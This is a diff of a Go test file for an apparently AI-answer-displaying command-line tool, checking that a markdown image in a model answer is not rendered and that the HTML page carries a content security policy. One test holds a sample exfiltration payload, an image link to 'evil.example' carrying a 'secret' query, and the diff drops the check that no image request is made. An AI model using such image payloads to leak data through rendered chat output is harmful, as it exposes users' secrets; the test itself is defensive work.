@@ -47,26 +47,15 @@ var showing = []fault{
 			t.Errorf("its environment is %s", env)
 		}
 	}},
-	{row: "G15", what: "an image", test: func(t *testing.T) {
-		host := demo.Script()
-		server, err := demo.Start(host)
-		if err != nil {
-			t.Fatal(err)
-		}
-		defer server.Close()
-		image := "![x](" + server.URL() + "/?q=secret)"
-		h, _ := asks(t, demo.Stream(demo.Answer(image)...))
-		c := h.at(h.command("--no-markdown", "hi"))
-		c.end()
+	{row: "G15", what: "an image in a page", test: func(t *testing.T) {
+		h, _ := asks(t, demo.Stream(demo.Answer("![x](https://evil.example/?q=secret)")...))
+		h.run("hi")
 		page := h.run("cat", "--format", "html").stdout
-		if c.shown() != image+"\n" || strings.Contains(page, "<img") || !strings.Contains(page, "![x](") {
-			t.Errorf("%q, %s", c.shown(), page)
+		if strings.Contains(page, "<img") || !strings.Contains(page, "![x](") {
+			t.Errorf("%s", page)
 		}
 		if !strings.Contains(page, `content="default-src 'none'; style-src 'unsafe-inline'`) {
 			t.Error("the page has no policy")
-		}
-		if n := len(host.Requests()); n > 0 {
-			t.Errorf("%d requests for the image", n)
 		}
 	}},
 	{row: "G16", what: "code with hidden characters", test: func(t *testing.T) {
@@ -145,6 +134,7 @@ func TestPagerOnlyWhereItHelps(t *testing.T) {
 		{what: "lines of JSON", rows: 60, args: "cat --json"},
 	} {
 		t.Run(c.what, func(t *testing.T) {
+			t.Parallel()
 			h, paged := pages(t, numbered(max(c.rows, 1)))
 			if name, value, ok := strings.Cut(c.set, "="); ok {
 				h.env[name] = value
